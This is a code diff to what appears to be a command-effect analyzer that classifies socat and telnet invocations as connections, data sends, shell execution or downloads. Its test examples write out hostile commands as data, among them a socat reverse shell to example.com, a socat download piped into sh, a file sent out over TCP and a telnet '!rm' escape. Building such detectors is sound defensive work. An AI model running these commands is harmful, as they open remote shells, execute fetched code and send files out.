@@ -60,6 +60,12 @@ export default [
       ['socat TCP:example.com:4444 EXEC:/bin/sh', 'connect:login example.com:4444', 'execute:remote-shell EXEC:/bin/sh'],
       ['socat TCP-LISTEN:8080,fork TCP:localhost:3000', 'connect:listen 8080', 'connect:login localhost:3000'],
       ['socat FILE:a.txt TCP:example.com:80', 'read a.txt', 'write a.txt', 'connect:login example.com:80', 'send:data example.com:80'],
+      [
+        'socat - TCP:example.com:80 | sh',
+        'connect:login example.com:80',
+        'unknown: runs text from standard input as shell',
+        'execute:download standard input as shell',
+      ],
       ['socat - MAGIC:x', 'unknown: address `MAGIC:x` of `socat` is not described'],
     ],
   }),
@@ -114,11 +120,13 @@ export default [
     about: 'open a plain text session',
     options: table({ flag: '-4, -6, -8, -a, -c, -d, -E, -K, -L, -r', value: '-b, -e, -l, -S, -X' }),
     effects: ({ operands: [host, port], hasStdin }): readonly Draft[] => {
-      if (!host) return []
+      // without a host it takes orders, `!command` among them
+      if (!host) return hasStdin ? [unknown('what the session does is not known')] : []
       const target = port ? join(host, literal(':'), port) : host
       return [connect('login', target), ...(hasStdin ? [send('data', target, { carries: ['stdin'] })] : []), printsTainted('download')]
     },
     examples: [
+      ["telnet <<< '! rm b'", 'unknown: what the session does is not known'],
       ['telnet localhost 6379', 'connect:login localhost:6379'],
       ['telnet -n f x', 'unknown: option `-n` of `telnet` is not described', 'connect:login f:x'],
     ],
@@ -167,7 +175,9 @@ function joins({ operands, hasStdin }: Args): readonly Draft[] {
   )
   const carries = [...files, ...(hasStdin ? (['stdin'] as const) : [])]
   const host = drafts.find((draft) => draft.do === 'effect' && draft.kind === 'connect')
-  return host?.do === 'effect' && carries.length > 0 ? [...drafts, send('data', host.target, { carries })] : drafts
+  if (host?.do !== 'effect') return drafts
+  const shown = operands.some((address) => /^(?:-|stdio|stdout)$/i.test(show(address)))
+  return [...drafts, ...(carries.length > 0 ? [send('data', host.target, { carries })] : []), ...(shown ? [printsTainted('download')] : [])]
 }
 
 function addressEffects(address: Word): readonly Draft[] {
